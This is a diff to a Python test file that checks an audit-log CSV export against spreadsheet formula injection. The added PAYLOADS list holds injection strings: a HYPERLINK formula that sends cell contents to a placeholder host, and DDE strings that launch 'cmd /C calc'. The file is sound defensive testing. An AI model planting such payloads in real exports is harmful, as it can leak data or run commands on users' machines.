@@ -10,6 +10,8 @@ from collections.abc import Callable
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from cobrowse.core import audit as a
 from cobrowse.core.audit import AuditEntry, Kind
@@ -176,7 +178,7 @@ def test_csv_export_has_a_header_and_defuses_formulas(api: tuple[Server, dict[st
 def test_an_empty_export_is_just_the_header(api: tuple[Server, dict[str, str]]) -> None:
     server, auth = api
     r = get(server, "/api/v1/audit/export", auth, format="csv", session_id="s_none")
-    assert r.text == "\r\n".join([",".join(audit_api.CSV_COLUMNS), ""])
+    assert r.text == ",".join(f'"{c}"' for c in audit_api.CSV_COLUMNS) + "\r\n"
     assert get(server, "/api/v1/audit/export", auth, session_id="s_none").text == ""
 
 
@@ -186,3 +188,75 @@ def test_the_audit_endpoints_are_in_the_openapi_document(
     server, _ = api
     paths = server.client.get("/openapi.json").json()["paths"]
     assert {"/api/v1/audit", "/api/v1/audit/export"} <= set(paths)
+
+
+# --- CSV injection -----------------------------------------------------------------
+
+FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
+LEADS = ' \t\r\n\x00\x0b\x0c"'  # what a spreadsheet may drop before a formula
+PAYLOADS = [
+    '=HYPERLINK("http://x.example/?"&A1,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\x00=1+1",
+    ' "=1+1',
+    "\uff1d1+1",
+    "Asha;=1+1",
+    "Asha,=1+1",
+    'Asha,"=1+1',
+    "Asha\t@SUM(1)",
+    "Asha|-1",
+    "Asha\n+1",
+]
+
+
+def _entry(text: str) -> AuditEntry:
+    return AuditEntry(
+        at=T,
+        kind=Kind.FILE_OFFERED,
+        actor=text,
+        session_id=text,
+        address=text,
+        target=text,
+        outcome=text,
+        detail=text,
+        data={"name": text, "size": 3},
+        id=7,
+    )
+
+
+def _cells_a_spreadsheet_could_see(line: str) -> list[str]:
+    """Every cell of `line` as a reader splitting on any separator (its locale's) or line
+    break might see it, quotes or not, with what it drops in front."""
+    pieces = [line]
+    for sep in (",", ";", "\t", "|", "\r", "\n"):
+        pieces = [part for piece in pieces for part in piece.split(sep)]
+    return [p.lstrip(LEADS) for p in pieces]
+
+
+@given(
+    st.one_of(st.sampled_from(PAYLOADS), st.text(alphabet=FORMULA + LEADS + ",;|'ab1", max_size=12))
+)
+def test_no_csv_cell_starts_a_formula_whatever_the_separator(text: str) -> None:
+    line = audit_api.csv_line(audit_api.csv_row(_entry(text)))
+    for cell in _cells_a_spreadsheet_could_see(line):
+        assert cell[:1] not in tuple(FORMULA), (text, cell, line)
+    # Read as CSV, each cell says what was recorded, with apostrophes added only.
+    (row,) = list(csv.reader(io.StringIO(line)))
+    assert len(row) == len(audit_api.CSV_COLUMNS)
+    assert row[0] == "7" and row[2] == str(T)
+    for cell in (row[3], row[5], row[6], row[7], row[8], row[9]):
+        assert cell.replace("'", "") == text.replace("'", "")
+
+
+def test_the_payloads_themselves() -> None:
+    """As a spreadsheet would show them: apostrophe first, the rest as it was."""
+    cells = [audit_api.csv_row(_entry(p))[5] for p in PAYLOADS]
+    assert cells[:4] == ["'" + p for p in PAYLOADS[:4]]
+    assert cells[PAYLOADS.index("Asha;=1+1")] == "Asha;'=1+1"
+    assert cells[PAYLOADS.index('Asha,"=1+1')] == "Asha,\"'=1+1"
+    assert audit_api.csv_row(_entry("Form 16 - 2024.pdf"))[5] == "Form 16 - 2024.pdf"
